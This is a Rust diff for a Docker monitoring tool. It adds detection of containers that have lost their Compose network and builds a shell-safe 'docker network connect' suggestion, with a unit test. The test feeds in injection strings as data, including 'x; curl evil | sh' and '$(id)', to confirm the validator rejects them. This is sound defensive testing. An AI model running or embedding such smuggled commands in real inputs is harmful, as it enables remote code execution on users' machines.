@@ -163,6 +163,41 @@ pub struct ContainerDetails {
     pub mounts: serde_json::Value,
 }
 
+/// What every engine has: who is in none of these names a network of their own.
+const BUILT_IN_NETWORKS: [&str; 5] = ["", "default", "bridge", "host", "none"];
+/// Compose's label of a service's containers: the name by which others call them.
+const COMPOSE_SERVICE: &str = "com.docker.compose.service";
+
+impl ContainerDetails {
+    /// The network that it was made for, where it runs and is connected to none at all.
+    pub fn lost_network(&self) -> Option<&str> {
+        let mode = self
+            .host_config
+            .get("NetworkMode")
+            .and_then(serde_json::Value::as_str)?;
+        let is_own = !BUILT_IN_NETWORKS.contains(&mode) && !mode.starts_with("container:");
+        let is_alone = self.state == ContainerState::Running && self.networks.is_empty();
+        (is_own && is_alone).then_some(mode)
+    }
+
+    /// The command that connects it again to a network, with the name that Compose gave it there. `None` where a name is none that
+    /// the engine takes: labels are written by others, and what is said to a person may be pasted into a shell.
+    pub fn connect_command(&self, network: &str) -> Option<String> {
+        let service = self.labels.get(COMPOSE_SERVICE).filter(|service| is_name(service));
+        let alias = service
+            .map(|service| format!("--alias {service} "))
+            .unwrap_or_default();
+        let known = is_name(network) && is_name(&self.name);
+        known.then(|| format!("docker network connect {alias}{network} {}", self.name))
+    }
+}
+
+/// Whether a text is what the engine takes for a name: no character of it means anything to a shell.
+fn is_name(text: &str) -> bool {
+    let first = text.chars().next().is_some_and(|first| first.is_ascii_alphanumeric());
+    first && text.chars().all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
+}
+
 /// State of Docker's own health check.
 #[derive(Debug, Clone, PartialEq, Eq, Default)]
 pub struct DockerHealth {
@@ -299,6 +334,52 @@ pub struct EngineEvent {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_what_was_made_for_a_network_and_is_in_none_has_lost_it() {
+        let container = |mode: &str, networks: &[&str]| ContainerDetails {
+            name: "db".to_owned(),
+            state: ContainerState::Running,
+            host_config: serde_json::json!({"NetworkMode": mode}),
+            networks: networks.iter().map(|name| ((*name).to_owned(), None)).collect(),
+            ..ContainerDetails::default()
+        };
+        assert_eq!(container("shop", &[]).lost_network(), Some("shop"));
+        for (mode, networks) in [
+            ("shop", &["shop"][..]),
+            ("shop", &["another"]),
+            ("bridge", &[]),
+            ("default", &[]),
+            ("host", &[]),
+            ("none", &[]),
+            ("container:1234", &[]),
+            ("", &[]),
+        ] {
+            assert_eq!(
+                container(mode, networks).lost_network(),
+                None,
+                "{mode} {networks:?}"
+            );
+        }
+        let mut lost = container("shop", &[]);
+        let command = |of: &ContainerDetails, network: &str| of.connect_command(network).unwrap_or_default();
+        assert_eq!(command(&lost, "shop"), "docker network connect shop db");
+        lost.labels
+            .insert(COMPOSE_SERVICE.to_owned(), "database".to_owned());
+        assert_eq!(
+            command(&lost, "shop"),
+            "docker network connect --alias database shop db"
+        );
+        // What others write is never part of a command that a person may paste.
+        let hostile = "x; curl evil | sh";
+        lost.labels.insert(COMPOSE_SERVICE.to_owned(), hostile.to_owned());
+        assert_eq!(command(&lost, "shop"), "docker network connect shop db");
+        for network in [hostile, "", "-v", "$(id)", "shop\nid"] {
+            assert_eq!(lost.connect_command(network), None, "{network}");
+        }
+        lost.state = ContainerState::Exited;
+        assert_eq!(lost.lost_network(), None);
+    }
 
     #[test]
     fn a_state_is_stored_as_dockers_word_and_one_that_is_not_known_is_unknown() {
